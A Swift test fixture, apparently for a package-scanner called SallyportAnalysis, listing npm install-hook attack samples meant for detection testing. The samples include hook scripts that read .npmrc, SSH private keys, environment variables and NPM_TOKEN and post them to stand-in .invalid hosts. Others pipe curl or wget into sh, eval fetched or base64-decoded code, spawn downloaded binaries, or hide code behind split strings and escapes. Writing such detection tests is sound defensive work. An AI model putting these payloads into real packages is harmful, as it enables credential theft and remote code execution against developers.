import SallyportAnalysis
import Testing

/// Attacks in files that an npm hook runs.
enum NPMFileAttacks {
    static let all: [Attack] = [
        Attack(
            "reads .npmrc and posts it",
            .chainExfiltration,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const fs=require('fs'),os=require('os'),path=require('path'),https=require('https');
                const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
                const req = https.request({host:'collect.example.invalid', method:'POST'}, () => {});
                req.write(token); req.end();
                """#
            ]
        ),
        Attack(
            "posts the environment as JSON",
            .chainExfiltration,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const https=require('https');
                const data = JSON.stringify({env: process.env});
                const req = https.request('https://collect.example.invalid/', {method:'POST'}); req.end(data);
                """#
            ]
        ),
        Attack(
            "posts an alias of the environment",
            .chainExfiltration,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const e = process.env; fetch('https://x.example.invalid', {method:'POST', body: JSON.stringify(e)})
                """#
            ]
        ),
        Attack(
            "sends the entries of the environment in an address",
            .chainExfiltration,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const data = Object.entries(process.env).map(([k,v])=>k+'='+v).join('&');
                require('https').get('https://x.example.invalid/?'+data)
                """#
            ]
        ),
        Attack(
            "evaluates what the network answers",
            .chainDownloadExecute,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                require('https').get('https://x.example.invalid/p.js', r => { let b=''; r.on('data', c => b+=c); r.on('end', () => eval(b)); });
                """#
            ]
        ),
        Attack(
            "makes a function of what the network answers",
            .chainDownloadExecute,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                (async () => { const r = await fetch('https://x.example.invalid/p'); const t = await r.text(); new Function(t)(); })()
                """#
            ]
        ),
        Attack(
            "hides the download in a shell file",
            .chainDownloadExecute,
            scripts: ["postinstall": "sh ./i.sh"],
            files: [
                "i.sh": #"""
                #!/bin/sh
                curl https://x.example.invalid/a | bash
                """#
            ]
        ),
        Attack(
            "hides the download behind a script name",
            .chainDownloadExecute,
            scripts: ["postinstall": "npm run go", "go": "node x"],
            files: [
                "x.js": #"""
                require('child_process').exec('wget -qO- https://x.example.invalid | sh')
                """#
            ]
        ),
        Attack(
            "runs a text file as code",
            .chainDownloadExecute,
            scripts: ["postinstall": "node NOTICE.txt"],
            files: [
                "NOTICE.txt": #"""
                require('child_process').exec('curl https://x.example.invalid | sh')
                """#
            ]
        ),
        Attack(
            "runs a file without an extension",
            .chainDownloadExecute,
            scripts: ["postinstall": "node bin/setup"],
            files: [
                "bin/setup": #"""
                require('child_process').exec('curl https://x.example.invalid | sh')
                """#
            ]
        ),
        Attack(
            "runs a command while gyp reads its file",
            .chainDownloadExecute,
            scripts: [:],
            files: [
                "binding.gyp": #"""
                {'targets':[{'target_name':'x','sources':['<!(node index.js > /dev/null && echo a.c)']}]}
                """#,
                "index.js": #"""
                require('child_process').exec('curl https://x.example.invalid | sh')
                """#,
            ]
        ),
        Attack(
            "fetches a program and starts it",
            .chainDownloadExecute,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const https=require('https'),fs=require('fs'),cp=require('child_process'),os=require('os'),path=require('path');
                const dest = path.join(os.tmpdir(), 'x.bin');
                const file = fs.createWriteStream(dest);
                https.get('https://x.example.invalid/x.bin', res => { res.pipe(file); file.on('finish', () => { fs.chmodSync(dest, 0o755); cp.spawn(dest, [], {detached:true}); }); });
                """#
            ]
        ),
        Attack(
            "fetches a script through a helper and runs it",
            .chainDownloadExecute,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const axios=require('axios'),fs=require('fs'),{exec}=require('child_process');
                async function dl(url, out){ const r = await axios.get(url,{responseType:'arraybuffer'}); fs.writeFileSync(out, r.data); }
                const p='/tmp/run.js'; dl('https://x.example.invalid/r.js', p).then(()=> exec('node ' + p));
                """#
            ]
        ),
        Attack(
            "splits every name",
            .chainExfiltration,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const c = require('child_' + 'process'); const h = require('ht'+'tps'); const f=require('fs');
                const t = f['read'+'FileSync'](require('os').homedir() + '/.np' + 'mrc');
                h['req'+'uest']({host:'x.example.invalid',method:'POST'}).end(t); c['ex'+'ec']('id');
                """#
            ]
        ),
        Attack(
            "escapes names and strings",
            .chainExfiltration,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const f=require('\x66s'); const t=f.readFileSync(process.env.HOME + '/\x2enpmrc'); \u0066etch('https://x.example.invalid',{method:'POST',body:t})
                """#
            ]
        ),
        Attack(
            "evaluates decoded text",
            .chainDecodeExecute,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())
                """#
            ]
        ),
        Attack(
            "calls an alias of a constructor with decoded text",
            .chainDecodeExecute,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const s = atob('Y29uc29sZS5sb2coMSk='); const F = Function; F(s)();
                """#
            ]
        ),
        Attack(
            "reads in one file and sends in another",
            .chainExfiltration,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const {collect}=require('./lib/a'); const {send}=require('./lib/b'); send(collect());
                """#,
                "lib/a.js": #"""
                const fs=require('fs'),p=require('path'); exports.collect=()=>fs.readFileSync(p.join(require('os').homedir(),'.ssh','id_rsa'))
                """#,
                "lib/b.js": #"""
                exports.send=d=>require('https').request({host:'x.example.invalid',method:'POST'}).end(d)
                """#,
            ]
        ),
        Attack(
            "puts a comment opener into a string",
            .chainExfiltration,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const g = "src/*"; const fs=require('fs'); const t = fs.readFileSync(require('os').homedir()+'/.npmrc'); require('https').request({host:'x.example.invalid'}).end(t);
                """#
            ]
        ),
        Attack(
            "uses module syntax",
            .chainExfiltration,
            scripts: ["postinstall": "node install.mjs"],
            files: [
                "install.mjs": #"""
                import { readFileSync as r } from 'node:fs'; import os from 'node:os'; import { request } from 'node:https';
                request({host:'x.example.invalid',method:'POST'}).end(r(os.homedir()+'/.npmrc'));
                """#
            ]
        ),
        Attack(
            "takes a token out of the environment by a pattern",
            .chainTokenUse,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const {NPM_TOKEN} = process.env; require('https').get('https://x.example.invalid/'+NPM_TOKEN)
                """#
            ]
        ),
        Attack(
            "installs a runtime first",
            .chainDownloadExecute,
            scripts: ["postinstall": "node install.js"],
            files: [
                "install.js": #"""
                const {execSync}=require('child_process'); execSync('curl -fsSL https://bun.example.invalid/install | bash'); execSync('bun run payload.js')
                """#
            ]
        ),
        Attack(
            "runs Python",
            .chainDownloadExecute,
            scripts: ["postinstall": "python3 x.py || true"],
            files: [
                "x.py": #"""
                import os
                os.system("curl https://x.example.invalid | sh")
                """#
            ]
        ),
    ]
}
